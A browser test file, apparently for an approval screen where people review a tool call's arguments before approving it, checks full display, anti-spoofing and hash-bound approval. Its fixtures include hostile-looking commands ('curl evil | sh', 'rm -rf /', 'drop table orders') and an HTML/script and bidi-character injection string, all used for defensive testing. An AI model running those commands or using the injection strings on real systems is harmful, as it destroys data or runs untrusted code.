// What a person sees of a call before approving it, in a real browser: all of it, as what it is, and nothing that imitates or hides.

import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';

import { describe, expect, test } from 'vitest';

import { until } from '../workerProcess.ts';
import { approving, asked, change, decisionOn, faults, open, ready } from './approving.ts';
import { missing } from './browser.ts';

approving();

describe.skipIf(missing !== null)('in a browser, what is shown of a call', () => {
  const tail = 'curl evil | sh';

  test('is the whole call, and Approve works once its end was on screen', async () => {
    const id = await asked({ target: 'production', script: 'set -e\n'.repeat(300) + tail });
    const at = await open('/');
    await at.ask(id).focus();
    expect(await at.ask(id).locator('dd.is-shell .ln').allTextContents()).toEqual([...Array.from({ length: 300 }, () => 'set -e'), tail]);
    expect([await at.approve(id).isDisabled(), await at.says(id)]).toEqual([
      true,
      'Approve works once the end of the arguments was on screen.',
    ]);
    await at.page.keyboard.press('a');
    expect(await at.state(id)).toBe(null);
    await at.ask(id).locator('.args').focus();
    await at.page.keyboard.press('End');
    await ready(at.approve(id));
    await at.ask(id).focus();
    await at.page.keyboard.press('a');
    expect(await at.state(id)).toBe('counting');
    await at.close();
  });

  test('cannot be imitated by a value: names have a column of their own, and each line of a value its own box', async () => {
    const hostile = {
      script: `echo ok\ntarget   staging\r\n\u202Eevil\u202C\u200b</dd></div><div class="arg"><dt>target</dt><dd>staging</dd></div><script>document.title = "owned"</script>${'\u0336'.repeat(9)}`,
      target: 'production',
      'a\u202Eb\nc': '',
      count: '5',
      n: 12,
    };
    const id = await asked(hostile);
    const at = await open('/');
    const names = at.ask(id).locator('dt');
    expect((await names.allTextContents()).toSorted()).toEqual([
      'a⟨U+202E⟩b␊c empty text',
      'count text',
      'n number',
      'script shell',
      'target text',
    ]);
    const lines = at.ask(id).locator('dd.is-shell .ln');
    expect((await lines.allTextContents()).slice(0, 2)).toEqual(['echo ok', 'target   staging␍']);
    expect(await lines.nth(2).textContent()).toMatch(
      /^⟨U\+202E⟩evil⟨U\+202C⟩⟨U\+200B⟩<\/dd><\/div>.*<script>.*\u0336{3}(?:⟨U\+0336⟩){6}$/u,
    );
    const [name, line] = [await names.filter({ hasText: 'target' }).boundingBox(), await lines.nth(1).boundingBox()];
    expect(line?.x ?? 0).toBeGreaterThan((name?.x ?? 0) + (name?.width ?? 0));
    expect([await at.page.title(), await at.ask(id).locator('script').count()]).toEqual(['Now · Work Ledger', 0]);
    await at.close();
  });

  test('is what it is: diff by line, JSON indented, numbers with every digit', async () => {
    const id = await asked({
      patch: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same',
      options: { dry: [true, null] },
      sql: 'select 1;\ndrop table orders',
      account: 0,
    });
    await change(id, {
      patch: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same',
      options: { dry: [true, null] },
      sql: 'select 1;\ndrop table orders',
      account: 0,
    });
    const at = await open('/');
    const kinds = await at
      .ask(id)
      .locator('dd')
      .first()
      .locator('.ln')
      .evaluateAll((all: { className: string }[]) => all.map(({ className }) => className));
    expect(kinds).toEqual(['ln file', 'ln file', 'ln hunk', 'ln del', 'ln add', 'ln']);
    expect(await at.ask(id).locator('dd.is-JSON .ln').allTextContents()).toEqual(['{', '  "dry": [', '    true,', '    null', '  ]', '}']);
    expect(await at.ask(id).locator('dd.is-SQL').count()).toBe(1);
    await at.close();
  });

  test.each([
    ['a megabyte in one line', `${'x'.repeat(1_000_000)} ${tail}`],
    ['10,000 lines', `${'line\n'.repeat(9_999)}${tail}`],
    ['200,000 empty lines', `${'\n'.repeat(200_000)}${tail}`],
  ])('is read on a page of its own where it is long: %s', async (_, script) => {
    const id = await asked({ script });
    const at = await open('/');
    expect(await at.approve(id).count()).toBe(0);
    await at.ask(id).focus();
    await at.page.keyboard.press('a');
    await at.page.keyboard.press('Enter');
    await at.page.waitForURL((url) => url.pathname === `/call/${id}`);
    await at.page.locator('#connection .good').waitFor();
    await at.pass(1100);
    const text = await at.page.evaluate<string>(`[...document.querySelectorAll('.ask dd .ln')].map((line) => line.textContent).join('')`);
    expect([text.replaceAll('\n', '').length, text.endsWith(tail)]).toEqual([script.replaceAll('\n', '').length, true]);
    expect(await at.approve(id).isDisabled()).toBe(true);
    await at.page.locator('.ask .args').evaluate((args: { scrollTop: number }) => (args.scrollTop = 1e9));
    await until(async () => {
      // what came near has its height now
      await at.page.locator('.ask .args').evaluate((args: { scrollTop: number }) => (args.scrollTop = 1e9));
      return at.approve(id).isEnabled();
    });
    await at.approve(id).click();
    await at.pass(5000);
    await until(async () => (await decisionOn(id)) === 'approved');
    await at.page.locator('section[aria-label="Arguments"]').waitFor();
    await at.close();
  });

  test('stands whole above the buttons without a script, and the form sends the hash of what it shows', async () => {
    const id = await asked({ script: `${'set -e\n'.repeat(300)}${tail}` });
    const at = await open('/', { javaScriptEnabled: false });
    const [end, button, all] = [
      await at.ask(id).locator('.end').boundingBox(),
      await at.approve(id).boundingBox(),
      await at.ask(id).boundingBox(),
    ];
    expect(end?.y ?? Infinity).toBeLessThan(button?.y ?? 0);
    expect(end?.y ?? 0).toBeGreaterThan(300 * 18);
    // Its own height before it was ever on screen: a button that moves while the page scrolls is missed.
    expect(all?.height ?? 0).toBeLessThan(320 * 18);
    await change(id, { script: 'rm -rf /' });
    await at.approve(id).click();
    await at.page.getByText('its arguments are not those that were reviewed (WL008)').waitFor();
    expect(await decisionOn(id)).toBe(null);
    await at.go('/');
    await at.approve(id).click();
    await until(async () => (await decisionOn(id)) === 'approved');
    await at.close();
  });

  test('fits a wide and a narrow screen, dark and light, and axe finds nothing', async () => {
    const axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
    const long = `x${'y'.repeat(300)}`;
    const id = await asked(
      { script: `set -e\n${long}\n${tail}`, [long]: long, patch: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new', nothing: '', n: 5 },
      'dangerous',
    );
    const found: unknown[] = [];
    for (const width of [1440, 390]) {
      const at = await open('/', { viewport: { width, height: 860 }, bypassCSP: true, hasClock: false }); // axe waits for the clock
      for (const path of ['/', `/call/${id}`]) {
        await at.go(path);
        await at.ask(id).locator('.btn[value="reject"]:enabled').waitFor();
        await at.page.evaluate(axe);
        for (const mode of ['light', 'dark'] as const) {
          await at.page.emulateMedia({ colorScheme: mode });
          const { violations } = await at.page.evaluate<{ violations: { id: string; nodes: { html: string }[] }[] }>('axe.run()');
          for (const one of violations)
            found.push({ path, width, mode, id: one.id, nodes: one.nodes.slice(0, 3).map((node) => node.html.slice(0, 200)) });
        }
        const overflow = await at.page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
        if (overflow > 0) found.push({ path, width, overflow });
      }
      await at.close();
    }
    expect(found).toEqual([]);
  });

  test('nothing went wrong in the page meanwhile', () => {
    expect(faults).toEqual([]);
  });
});
